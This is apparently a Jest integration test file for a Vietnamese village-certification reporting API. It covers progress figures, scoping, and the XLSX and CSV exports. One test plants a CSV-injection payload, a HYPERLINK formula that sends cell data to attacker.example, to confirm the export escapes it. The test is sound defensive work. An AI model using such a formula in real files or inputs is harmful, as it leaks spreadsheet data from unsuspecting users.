import { readFileSync } from 'node:fs';
import { join } from 'node:path';
import { CODES, attachDocument, inReview, sendEvent, startKit, waitForState, type Kit } from './support/certification-kit.js';
import { listAllUnits } from './support/fixtures.js';
import { download, parseCsv, progress, readWorkbook, sheetRows } from './support/reports-kit.js';

interface PlanJson {
  targets: Record<string, any>;
  criteria: { code: number; vi: string; baseline: number; target2020: number }[];
  scope: { villages: number };
}
const plan: PlanJson = JSON.parse(readFileSync(join(process.cwd(), 'prisma', 'seed', 'plan-136-2019.json'), 'utf8').toString());

/** GET /reports/progress and its files against real PostgreSQL: the seeded plan, a certification and a revocation, scoping. */
describe('reports: progress against the plan', () => {
  let k: Kit;
  let commune: { auth: string };
  let reviewer: { auth: string };
  let province: { auth: string };

  beforeAll(async () => {
    k = await startKit('reports_progress', { DEADLINE_OVERRIDES: 'certification.consultation=PT1S' });
    commune = await k.user('COMMUNE_STAFF', 'LS-TD-01');
    reviewer = await k.user('REVIEWER', 'LS-TD');
    province = await k.user('PROVINCE_OFFICER', 'LS');
  }, 120_000);
  afterAll(async () => {
    await k?.close();
  });

  it("right after seeding: 189 villages, 7.66 criteria on average, each criterion at its baseline, the plan's targets", async () => {
    const r = await progress(k, province.auth);
    expect(r.villages).toEqual({ total: 189, certified: 0, certifiedByYear: {} });
    expect(r.averageCriteriaMet).toBe(7.66);
    expect(r.criteria).toHaveLength(16);
    for (const c of plan.criteria) {
      expect(r.criteria.find((x: { code: number }) => x.code === c.code)).toEqual({
        code: c.code,
        name: c.vi,
        baseline: c.baseline,
        met: c.baseline,
        target: c.target2020,
      });
    }
    expect(r.targets.certifiedVillages).toMatchObject({ total: 100, byYear: { 2019: 22, 2020: 78 } });
    expect(r.targets.averageCriteriaPerVillage).toEqual({ baseline: 7.66, targetMin: 11.5, targetMax: 12 });
    expect(r.distribution.map((d: { criteriaMet: number }) => d.criteriaMet)).toEqual(Array.from({ length: 17 }, (_, i) => i));
    expect(r.distribution.reduce((s: number, d: { villages: number }) => s + d.villages, 0)).toBe(189);
    const districts = r.byUnit.filter((u: { level: string }) => u.level === 'DISTRICT');
    const communes = r.byUnit.filter((u: { level: string }) => u.level === 'COMMUNE');
    expect(districts).toHaveLength(5);
    expect(communes).toHaveLength(18);
    expect(districts.reduce((s: number, u: { villages: number }) => s + u.villages, 0)).toBe(189);
    expect(communes.reduce((s: number, u: { villages: number }) => s + u.villages, 0)).toBe(189);
    // ADMIN sees the same province.
    expect((await progress(k, k.admin)).averageCriteriaMet).toBe(7.66);
  });

  it('moves with a certification (all criteria met, certified +1) and back with a revocation', async () => {
    const village = k.unit('LS-TD-01-01');
    const before = await progress(k, province.auth);
    const { rows } = await k.db.query(`SELECT criterion_code::int AS code, met FROM village_criteria WHERE village_id = $1`, [village.id]);
    const unmet = new Set(rows.filter((r) => !r.met).map((r) => r.code as number));
    expect(unmet.size).toBeGreaterThan(0);

    const id = await inReview(k, commune.auth, 'LS-TD-01-01', 2026);
    for (const code of CODES)
      expect((await sendEvent(k, reviewer.auth, id, { type: 'REVIEW_CRITERION', code, decision: 'approve' })).status).toBe(200);
    await attachDocument(k, reviewer.auth, id, 'appraisal_report');
    expect((await sendEvent(k, reviewer.auth, id, { type: 'APPROVE' })).body.state).toBe('province_review');
    await attachDocument(k, province.auth, id, 'decision');
    expect(
      (await sendEvent(k, province.auth, id, { type: 'SIGN_OFF', decisionNumber: '55/QĐ-UBND', decisionDate: '2026-12-01' })).body.state,
    ).toBe('certified');
    await waitForState(k, province.auth, id, 'certified');

    const after = await progress(k, province.auth);
    expect(after.villages).toEqual({ total: 189, certified: 1, certifiedByYear: { 2026: 1 } });
    for (const c of after.criteria) {
      const was = before.criteria.find((x: { code: number }) => x.code === c.code).met;
      expect(c.met).toBe(was + (unmet.has(c.code) ? 1 : 0));
    }
    expect(after.averageCriteriaMet).toBe(Math.round(((1448 + unmet.size) / 189) * 100) / 100);
    expect(after.distribution[16].villages).toBe(before.distribution[16].villages + 1);
    const td = after.byUnit.find((u: { unitId: string }) => u.unitId === k.unit('LS-TD').id);
    expect(td.certified).toBe(1);
    const td01 = after.byUnit.find((u: { unitId: string }) => u.unitId === k.unit('LS-TD-01').id);
    expect(td01.certified).toBe(1);
    // The year filter.
    expect((await progress(k, province.auth, { year: 2026 })).villages.certified).toBe(1);
    const other = await progress(k, province.auth, { year: 2025 });
    expect(other.villages).toMatchObject({ certified: 0, certifiedByYear: {} });

    const revoked = await sendEvent(k, province.auth, id, {
      type: 'REVOKE',
      reason: 'Tiêu chí môi trường không còn đạt',
      criteriaNoLongerMet: [14, 4],
    });
    expect(revoked.body.state).toBe('revoked');
    const later = await progress(k, province.auth);
    expect(later.villages).toEqual({ total: 189, certified: 0, certifiedByYear: {} });
    expect(later.criteria.find((c: { code: number }) => c.code === 14).met).toBe(
      after.criteria.find((c: { code: number }) => c.code === 14).met - 1,
    );
    expect(later.criteria.find((c: { code: number }) => c.code === 4).met).toBe(
      after.criteria.find((c: { code: number }) => c.code === 4).met - 1,
    );
  }, 120_000);

  it('is scoped: a commune sees its own villages only; a unit outside is 404; a bad year is 400', async () => {
    const own = (await listAllUnits(k.t, k.admin, { parentId: k.unit('LS-TD-01').id })).filter((u) => u.level === 'VILLAGE');
    expect(own.length).toBeGreaterThan(0);
    const r = await progress(k, commune.auth);
    expect(r.villages.total).toBe(own.length);
    expect(r.distribution.reduce((s: number, d: { villages: number }) => s + d.villages, 0)).toBe(own.length);
    expect(r.byUnit).toEqual([expect.objectContaining({ unitId: k.unit('LS-TD-01').id, level: 'COMMUNE', villages: own.length })]);
    const { rows } = await k.db.query(
      `SELECT count(*)::int AS n FROM village_criteria vc JOIN units v ON v.id = vc.village_id WHERE v.parent_id = $1 AND vc.met AND vc.criterion_code = 1`,
      [k.unit('LS-TD-01').id],
    );
    expect(r.criteria[0].met).toBe(rows[0].n);

    // The province narrowed to one district equals that district's row.
    const whole = await progress(k, province.auth);
    const cl = await progress(k, province.auth, { unitId: k.unit('LS-CL').id });
    expect(cl.villages.total).toBe(whole.byUnit.find((u: { unitId: string }) => u.unitId === k.unit('LS-CL').id).villages);

    expect(
      (
        await k.t.http
          .get('/reports/progress')
          .query({ unitId: k.unit('LS-CL').id })
          .set('Authorization', commune.auth)
      ).status,
    ).toBe(404);
    expect((await k.t.http.get('/reports/progress').query({ unitId: 'nope' }).set('Authorization', province.auth)).status).toBe(404);
    expect((await k.t.http.get('/reports/progress').query({ year: 'abc' }).set('Authorization', province.auth)).status).toBe(400);
    expect((await k.t.http.get('/reports/progress').query({ year: '2026.5' }).set('Authorization', province.auth)).status).toBe(400);
    expect((await k.t.http.get('/reports/progress')).status).toBe(401);
  });

  it('progress.xlsx: one sheet per view, Vietnamese headers, numbers as numbers', async () => {
    const res = await download(k, province.auth, '/reports/progress.xlsx');
    expect(res.status).toBe(200);
    expect(res.headers['content-type']).toBe('application/vnd.openxmlformats-officedocument.spreadsheetml.sheet');
    expect(res.headers['content-disposition']).toMatch(/^attachment; filename=".+\.xlsx"$/);
    const wb = await readWorkbook(res.body);
    expect(wb.worksheets.map((w) => w.name)).toEqual(['Tổng hợp', 'Tiêu chí', 'Theo đơn vị', 'Phân bố', 'Khối lượng công trình']);
    const criteria = sheetRows(wb.getWorksheet('Tiêu chí')!);
    expect(criteria[0]).toEqual([
      'Mã tiêu chí',
      'Tên tiêu chí',
      'Hiện trạng 5/2019 (số thôn đạt)',
      'Hiện tại (số thôn đạt)',
      'Mục tiêu đến hết năm 2020',
      'Ghi chú',
    ]);
    expect(criteria).toHaveLength(17);
    expect(criteria[1]).toEqual([1, 'Giao thông', 98, expect.any(Number), 135, '']);
    // The one baseline the plan does not state says how it was inferred.
    expect(criteria[15][5]).toMatch(
      /^Kế hoạch không nêu hiện trạng tiêu chí này; số liệu được suy ra từ số tiêu chí đạt bình quân 7,66\/thôn/,
    );
    const summary = sheetRows(wb.getWorksheet('Tổng hợp')!);
    expect(summary).toContainEqual(['Tổng số thôn', 189]);
    const avg = summary.find((r) => r[0] === 'Số tiêu chí đạt bình quân/thôn (hiện tại)')!;
    expect(typeof avg[1]).toBe('number');
    expect(summary).toContainEqual(['Số tiêu chí đạt bình quân/thôn – Hiện trạng 5/2019', 7.66]);
    expect(summary).toContainEqual(['Số tiêu chí đạt bình quân/thôn – Mục tiêu đến hết năm 2020', '11,5 – 12']);
    const units = sheetRows(wb.getWorksheet('Theo đơn vị')!);
    expect(units[0]).toEqual(['Đơn vị', 'Cấp', 'Số thôn', 'Số thôn đạt chuẩn', 'Bình quân tiêu chí đạt']);
    expect(units).toHaveLength(1 + 5 + 18);
    expect(units.slice(1).every((r) => typeof r[2] === 'number' && typeof r[4] === 'number')).toBe(true);
    const dist = sheetRows(wb.getWorksheet('Phân bố')!);
    expect(dist).toHaveLength(18);
    expect(dist.slice(1).reduce((s, r) => s + (r[1] as number), 0)).toBe(189);
  });

  it('progress.csv: UTF-8 with a byte-order mark, diacritics intact, parses back', async () => {
    const res = await download(k, province.auth, '/reports/progress.csv');
    expect(res.status).toBe(200);
    expect(res.headers['content-type']).toBe('text/csv; charset=utf-8');
    expect(res.headers['content-disposition']).toMatch(/^attachment; filename=".+\.csv"$/);
    const bytes: Buffer = res.body;
    expect([...bytes.subarray(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
    const text = bytes.subarray(3).toString('utf8');
    const rows = await parseCsv(text);
    expect(rows[0]).toEqual([
      'Mã tiêu chí',
      'Tên tiêu chí',
      'Hiện trạng 5/2019 (số thôn đạt)',
      'Hiện tại (số thôn đạt)',
      'Mục tiêu đến hết năm 2020',
      'Ghi chú',
    ]);
    expect(rows).toHaveLength(18);
    expect(rows[14].slice(0, 3)).toEqual(['14', 'Môi trường và an toàn thực phẩm', '12']);
    expect(rows[16][1]).toBe('Quốc phòng và An ninh');
    expect(rows[15][5]).toMatch(/^Kế hoạch không nêu hiện trạng/);
    // After the 16 criteria, the average per village in the same columns, the figures of the workbook's summary.
    const report = await progress(k, province.auth);
    const [code, name, baseline, current, target, note] = rows[17];
    expect({ code, name, target, note }).toEqual({ code: '', name: 'Số tiêu chí đạt bình quân/thôn', target: '11,5 – 12', note: '' });
    expect(Number(baseline)).toBe(7.66);
    expect(Number(current)).toBe(report.averageCriteriaMet);
    expect(Number.isNaN(Number(current))).toBe(false);
  });

  it('progress.csv: a criterion name that starts like a formula comes back as text (OWASP CSV injection)', async () => {
    const { rows: before } = await k.db.query(`SELECT name_vi FROM criteria WHERE code = 1`);
    const formula = '=HYPERLINK("http://attacker.example/?leak="&A1,"Bấm vào đây")';
    await k.db.query(`UPDATE criteria SET name_vi = $1 WHERE code = 1`, [formula]);
    try {
      const res = await download(k, province.auth, '/reports/progress.csv');
      expect(res.status).toBe(200);
      const rows = await parseCsv((res.body as Buffer).subarray(3).toString('utf8'));
      expect(rows[1][0]).toBe('1');
      expect(rows[1][1]).toBe(`'${formula}`);
      // The counts are still plain numbers.
      expect(rows[1][2]).toMatch(/^\d+$/);
    } finally {
      await k.db.query(`UPDATE criteria SET name_vi = $1 WHERE code = 1`, [before[0].name_vi]);
    }
  });

  it('the report routes are in the OpenAPI document', async () => {
    const doc = (await k.t.http.get('/docs-json')).body;
    for (const path of [
      '/reports/progress',
      '/reports/funding',
      '/reports/progress.xlsx',
      '/reports/progress.csv',
      '/reports/funding.xlsx',
    ]) {
      expect(doc.paths[path]?.get).toBeDefined();
    }
    const progress = doc.paths['/reports/progress'].get;
    expect(progress.parameters.map((p: { name: string }) => p.name).sort()).toEqual(['unitId', 'year']);
  });
});
